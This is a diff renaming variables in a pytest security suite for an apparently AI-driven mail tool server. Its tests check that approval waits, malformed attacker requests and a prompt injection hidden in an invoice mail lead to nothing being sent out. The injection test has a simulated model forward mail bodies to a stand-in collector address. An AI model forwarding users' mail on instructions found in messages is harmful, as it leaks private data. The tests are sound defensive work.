@@ -16,7 +16,7 @@ from tests.checks.outside import Outside
 AT_ONCE = 8  # of a client's ten calls that may wait
 
 
-async def be_impatient(signed_in: SignedIn) -> None:
+async def disable_wait(signed_in: SignedIn) -> None:
     await Settings(signed_in.data).write("approvals", ApprovalSettings(patience_seconds=0))
 
 
@@ -28,7 +28,7 @@ def signed_in(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SignedIn]:
 
 @pytest.fixture(scope="module")
 def server(signed_in) -> Iterator[Process]:
-    asyncio.run(be_impatient(signed_in))  # a tool cannot say that it will not wait for the person
+    asyncio.run(disable_wait(signed_in))  # a tool cannot say that it will not wait for the person
     with starting(signed_in.data) as start:
         yield start("--demo", DESKHAND_DEMO_GOOGLE="own")
 
@@ -103,8 +103,8 @@ def test_malformed_request_has_no_effect(server, outside) -> None:
     for number, raw in enumerate(REQUESTS):
         if number % AT_ONCE == 0:
             attacker = make_attacker(server, "hostile" if number == 0 else "")
-            asked = attacker.call("send_mail", mail(to=EVE, subject=f"It waits {number}"))
-        answer = attacker.send_raw(raw, asked.json().get("approval_id", "call-1"))
+            response = attacker.call("send_mail", mail(to=EVE, subject=f"It waits {number}"))
+        answer = attacker.send_raw(raw, response.json().get("approval_id", "call-1"))
         assert answer.startswith(b"HTTP/1.1 "), raw.title
         assert not answer.startswith(b"HTTP/1.1 5"), f"{raw.title}: {answer[:200]!r}"
         assert (outside.reached(), outside.history()) == ([], before), raw.title
@@ -129,10 +129,10 @@ def test_unlisted_program_never_starts_even_if_everything_is_allowed(server, out
 
 def test_prompt_injection_in_a_mail_sends_nothing(server, outside) -> None:
     model = make_attacker(server)
-    found = model.call("search_mail", {"query": "invoice"}).json()["messages"]
-    assert found
-    for one in found:
-        text = model.call("read_mail", {"message_id": one["id"]}).json()["body"]
+    messages = model.call("search_mail", {"query": "invoice"}).json()["messages"]
+    assert messages
+    for message in messages:
+        text = model.call("read_mail", {"message_id": message["id"]}).json()["body"]
         answer = model.call("send_mail", {"to": "collector@example.net", "subject": "Fwd", "body": text})
         assert answer.status_code in {202, 403, 429}
     assert outside.reached() == []
